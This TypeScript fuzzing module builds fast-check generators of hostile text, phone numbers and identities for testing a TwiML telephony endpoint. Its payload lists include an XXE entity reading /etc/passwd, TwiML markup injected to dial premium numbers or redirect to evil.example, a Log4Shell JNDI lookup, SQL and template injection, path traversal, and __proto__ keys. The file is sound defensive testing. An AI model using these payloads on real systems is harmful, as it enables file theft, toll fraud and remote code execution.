import fc from 'fast-check';
import { KNOWN_NUMBERS } from '../support/numbering-plan';

/**
 * Generators of what an attacker (or a broken carrier) can put in a request: text of every kind,
 * markup, overlong values, phone numbers that should and should not be dialled, identities.
 */

/** Fragments that have broken XML, TwiML, URLs or parsers somewhere. */
const NASTY = [
  '<',
  '>',
  '&',
  '"',
  "'",
  ']]>',
  '<![CDATA[',
  '<!--',
  '-->',
  '<?xml version="1.0"?>',
  '&amp;',
  '&lt;',
  '&#0;',
  '&#x1;',
  '&e;',
  '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  '</Say>',
  '<Dial><Number>+19005550100</Number></Dial>',
  '"/><Number>+447700900123</Number><Parameter name="x" value="',
  '</Parameter></Client></Dial><Hangup/>',
  '<Redirect>http://evil.example/</Redirect>',
  '\u0000',
  '\u0001',
  '\u0008',
  '\u000b',
  '\u001f',
  '\u007f',
  '\u0085',
  '\ud800',
  '\udfff',
  '\ufffe',
  '\uffff',
  '\u2028',
  '\u202e',
  '\ufeff',
  '\r\n',
  '\r',
  '\t',
  ' ',
  '%00',
  '%',
  '%E0%A4%A',
  '+',
  '=',
  '&From=client:alice',
  '${jndi:ldap://x}',
  '{{7*7}}',
  "' OR '1'='1",
  '../',
  '..\\',
  'client:',
  'client:alice',
  'sip:alice@evil.example',
  '😀',
  'ﬀ',
  'İ',
  '٣',
  '１',
  '\u0301',
];

/** Text from every part of Unicode, lone surrogates and controls included. */
const anyUnit = fc.oneof(
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme-ascii', maxLength: 1 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }) },
  { weight: 1, arbitrary: fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code)) },
  { weight: 2, arbitrary: fc.constantFrom(...NASTY) },
);

/** Any hostile text, from empty to overlong. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.array(anyUnit, { maxLength: 24 }).map((parts) => parts.join('')) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 200 }) },
  { weight: 1, arbitrary: fc.tuple(anyUnit, fc.integer({ min: 100, max: 20_000 })).map(([unit, length]) => unit.repeat(Math.ceil(length / Math.max(1, unit.length)))) },
);

/** Header-safe text: fetch refuses controls (CR, LF, NUL, DEL…) but sends the rest of Latin-1. */
export const hostileHeaderValue: fc.Arbitrary<string> = fc.oneof(
  fc.string({
    unit: fc
      .integer({ min: 0x20, max: 0xff })
      .filter((code) => code !== 0x7f)
      .map((code) => String.fromCharCode(code)),
    maxLength: 60,
  }),
  fc.constantFrom('', ' ', '\t', '<Response/>', '../../etc/passwd', 'null', 'undefined', '[object Object]', '\u00ff'.repeat(2000), 'x'.repeat(7000)),
);

/** Numbers that must be dialled or refused: allowed, foreign, premium, shared-cost, unassigned, odd formats. */
const PHONE_NUMBERS = [
  '+14155550123',
  '+1 (415) 555-0123',
  '415-555-0123',
  '4155550123',
  '+16135550123',
  '+18005550199',
  '+18885550100',
  '+19005550123',
  '+19765550123',
  '+15005550006',
  '+1900',
  '+447700900123',
  '+442079460000',
  '+449098790000',
  '+33890123456',
  '+33612345678',
  '+882351234567',
  '+8810123456789',
  '+4400000000',
  '+999999999',
  '+1',
  '+',
  '00',
  '011442079460000',
  '+1 415 555 0123 ext 9',
  '+1-900-555-0123',
  '+1.415.555.0123',
  '＋１４１５５５５０１２３',
  '+١٤١٥٥٥٥٠١٢٣',
  '+14155550123\u0000',
  '+14155550123<Hangup/>',
  '  +14155550123  ',
  '*67 415 555 0123',
  '+1415555012345678901234567890',
  ...KNOWN_NUMBERS.map((known) => known.input),
];

/** A phone number as a person or an attacker might type it, sometimes wrapped in junk. */
export const phoneLike: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...PHONE_NUMBERS) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.constantFrom('+1', '+44', '+33', '+49', '+882', '+1900', '+1876', '+1684', '+1213976', '+1212555', ''), fc.string({ unit: fc.constantFrom(...'0123456789 -()'), maxLength: 16 }))
      .map(([cc, rest]) => cc + rest),
  },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...PHONE_NUMBERS), hostileText).map(([number, junk]) => number + junk) },
);

/** Team members, strangers and injection attempts, as identities. */
export const identityLike: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      'alice',
      'bob',
      'carol',
      'dave',
      'ALICE',
      'alice ',
      ' alice',
      'alice\u0000',
      'alice:x',
      'alice,bob',
      '../alice',
      '<Client>',
      'client:alice',
      'a'.repeat(65),
      'phone_14155550123',
      '__proto__',
      'constructor',
      'toString',
    ),
  },
  { weight: 1, arbitrary: hostileText },
);

/** Any of the above, for a parameter that could hold anything. */
export const anyValue: fc.Arbitrary<string> = fc.oneof({ weight: 4, arbitrary: hostileText }, { weight: 2, arbitrary: phoneLike }, { weight: 1, arbitrary: identityLike });
